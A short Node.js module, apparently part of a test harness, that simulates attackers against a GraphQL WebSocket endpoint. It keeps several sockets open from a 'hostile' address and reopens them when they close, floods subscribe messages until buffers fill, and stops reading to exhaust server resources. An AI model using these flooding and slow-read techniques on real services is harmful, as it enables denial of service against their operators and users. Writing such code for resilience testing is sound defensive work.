// WebSockets of attackers, which use the attackers' address and reopen when they are closed.
import { setTimeout as pause } from "node:timers/promises";
import WebSocket from "ws";
import { HOSTILE_ADDRESS, REOPEN_MS } from "./sockets.mjs";

/** Above this number of bytes a socket accepts nothing more; how often it is checked then. */
const BUFFERED_BYTES_MAX = 1 << 20;
const FULL_MS = 20;

const url = (graphql) => graphql.replace(/^http/, "ws");

/**
 * Keeps `count` WebSockets open until `signal`: each is passed to `use`, after initialisation unless `early`, and
 * replaced shortly after it was closed.
 */
export function keepWebSockets(count, graphql, signal, use, { early = false } = {}) {
  const open = () => {
    if (signal.aborted) return;
    const options = { localAddress: HOSTILE_ADDRESS, perMessageDeflate: { threshold: 512 } };
    const socket = new WebSocket(url(graphql), "graphql-transport-ws", options);
    socket.on("error", () => {});
    socket.on("close", async () => {
      await pause(REOPEN_MS);
      open();
    });
    socket.on("open", () => {
      if (early) return use(socket);
      socket.send(JSON.stringify({ type: "connection_init" }));
      socket.once("message", () => use(socket));
    });
  };
  for (let index = 0; index < count; index += 1) open();
}

/** The text of a `subscribe` message. */
export function subscribe(id, query, variables) {
  return JSON.stringify({ id: String(id), type: "subscribe", payload: { query, variables } });
}

/** Calls `send` repeatedly while the socket accepts data, until `signal`. */
export async function flood(socket, signal, send) {
  while (!signal.aborted && socket.readyState === WebSocket.OPEN) {
    const hasRoom = socket.bufferedAmount < BUFFERED_BYTES_MAX;
    if (hasRoom) send();
    // The socket does not signal when it accepts data again.
    await pause(hasRoom ? 0 : FULL_MS);
  }
}

/** Stops reading from the socket. */
export function stopReading(socket) {
  socket.pause();
}
